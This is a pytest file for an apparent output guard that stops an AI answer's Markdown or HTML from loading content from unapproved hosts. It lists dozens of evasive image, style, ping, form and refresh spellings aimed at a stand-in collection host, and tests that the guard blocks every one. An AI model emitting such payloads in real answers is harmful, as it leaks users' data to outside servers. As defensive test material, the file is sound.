"""Images and links of an answer as browsers and Markdown renderers take them, in spellings that nobody would write."""

from __future__ import annotations

import asyncio

import pytest

import sift_fast as sf
from sift_fast.guard._links import loads

CONTEXT = sf.RequestContext()
THERE = "https://collect.example/p?d=1"
LOADED = {
    "brackets in the text": f"![a [b] c]({THERE})",
    "an escaped bracket": f"![a\\]b]({THERE})",
    "a long text": f"![{'a b ' * 200}]({THERE})",
    "blanks in front": f"![a](            {THERE})",
    "one slash": "![a](https:/collect.example/p)",
    "no slash": "![a](https:collect.example/p)",
    "three slashes": "![a](https:///collect.example/p)",
    "decimal entities": "![a](https:&#47;&#47;collect.example/p)",
    "a named entity": "![a](https&colon;//collect.example/p)",
    "no scheme": "![a](//collect.example/p)",
    "a bracket in an attribute": f'<img alt="a>b" src="{THERE}">',
    "a long attribute": f'<img alt="{"a b " * 200}" src="{THERE}">',
    "the second of a set": f'<img srcset="a.png 1x, {THERE} 2x">',
    "an input": f"<input type=image src={THERE}>",
    "a background": f'<table background="{THERE}">',
    "a track": f"<track src={THERE}>",
    "a picture in a picture": f'<svg><use href="{THERE}"/></svg>',
    "a sheet": f'<style>@import "{THERE}";</style>',
    "a set in a style": f"<div style=\"background:image-set('{THERE}' 1x)\">",
    "a style with blanks": f'<div style="background:url(            {THERE})">',
    "an escaped style": f'<div style="background:u\\72l({THERE})">',
    "a ping": f'<a href="https://acme.example/" ping="{THERE}">x</a>',
    "a form": f'<form action="{THERE}">',
    "a refresh": f'<meta http-equiv=refresh content="0;url={THERE}">',
    "a tab in the scheme": '<img src="ht\ttps://collect.example/p">',
    "a line end between slashes": '<img src="https:/\n/collect.example/p">',
    "a line end between slashes without a scheme": '<img src="/\n/collect.example/p">',
    "a return between slashes without a scheme": '<img src="/\r/collect.example/p">',
    "a line end in a scheme without slashes": '<img src="ht\ntp:collect.example/p">',
    "a scheme in capital letters": '<img src="FTP:/collect.example/p">',
    "a definition in a quote": f"![a][r]\n\n> [r]: {THERE}\n",
    "a definition in a list": f"![a [b]][r]\n\n- [r]: {THERE}\n",
    "a user and a password": "![a](https://acme.example:x@collect.example/p)",
    "a user and a number": "![a](https://acme.example:443@collect.example/p)",
    "a user with a quote": '![a](https://acme.example"@collect.example/p)',
    "a user with an escape": "![a](https://acme.example\\@collect.example/p)",
    "a host with a percent sign": "![a](https://collect.example%23.acme.example/p)",
}
SHOWN_HERE = [
    "![a](https://static.acme.example/a.png)",
    "![a](https://acme.example:8443/a.png)",
    "![logo](/logo.png), and see [the paper](https://other.example/paper)",
    f'<a href="{THERE}">the page</a> <b>bold</b>',
    f"<b>Read</b> {THERE} & more",
    "`List<String>` is at https://other.example/paper // so it is",
    f"see [1]\n\n[1]: {THERE}",
    # A bracket in front of a tag begins none with what stands behind it.
    "if a <<b>text</b> = https://other.example/paper",
]


def guard(*, links: bool = False) -> sf.Guard:
    return sf.Guard({"version": 1, "guardrails": {"links": {"hosts": ["acme.example"], "links": links}}})


def streamed(of: sf.Guard, text: str) -> str:
    async def run() -> str:
        pieces = [text[at : at + 7] for at in range(0, len(text), 7)]
        return "".join([piece async for piece in of.stream_output(pieces, CONTEXT, say=False)])

    return asyncio.run(run())


@pytest.mark.parametrize("links", [False, True])
@pytest.mark.parametrize("text", LOADED.values(), ids=list(LOADED))
def test_what_is_loaded_from_elsewhere_is_stopped(text: str, links: bool) -> None:
    mine = guard(links=links)
    assert not mine.check_output_sync(text, CONTEXT).allowed
    assert "collect.example/p" not in streamed(mine, text)


@pytest.mark.parametrize("text", SHOWN_HERE)
def test_what_loads_nothing_from_elsewhere_passes(text: str) -> None:
    assert guard().check_output_sync(text, CONTEXT).allowed
    assert streamed(guard(), text) == text


@pytest.mark.parametrize("text", ["Read https://other.example", f"[a]({THERE})", f'<a href="{THERE}">a</a>'])
def test_links_count_where_they_are_asked_for(text: str) -> None:
    assert guard().check_output_sync(text, CONTEXT).allowed
    assert guard(links=True).check_output_sync(text, CONTEXT).reason == "links.host"
    assert guard(links=True).check_output_sync("Read https://docs.acme.example", CONTEXT).allowed


def test_hosts_of_no_interest_are_left_out() -> None:
    text = f"![a](https://acme.example/a) and ![b]({THERE}) and https://acme.example@collect.example/x"
    found = list(loads(text, but=lambda host: host == "acme.example"))
    assert [hosts for hosts, _, _ in found] == [("collect.example",), ("collect.example",)]


@pytest.mark.parametrize("filler", ["", "<b>x</b> ", "a < b, ", "words and more "])
def test_a_tag_is_found_however_many_addresses_stand_before_it(filler: str) -> None:
    page = "".join(f'{filler * 9}<a href="https://acme.example/{number}">x</a> ' for number in range(40))
    for there in (f'<img src="{THERE}">', f'<a href="https://acme.example" title="a > b" ping="{THERE}">x</a>'):
        assert [shown for _, shown, _ in loads(page + there, but=lambda host: host == "acme.example")] == [True]
        assert not any(shown for _, shown, _ in loads(page + filler + THERE))


def test_a_host_that_may_go_on_is_none_yet() -> None:
    assert list(loads("![a](https://acme.exam", goes_on=True)) == []
    assert (
        streamed(guard(links=True), "Read https://docs.acme.example, please")
        == "Read https://docs.acme.example, please"
    )
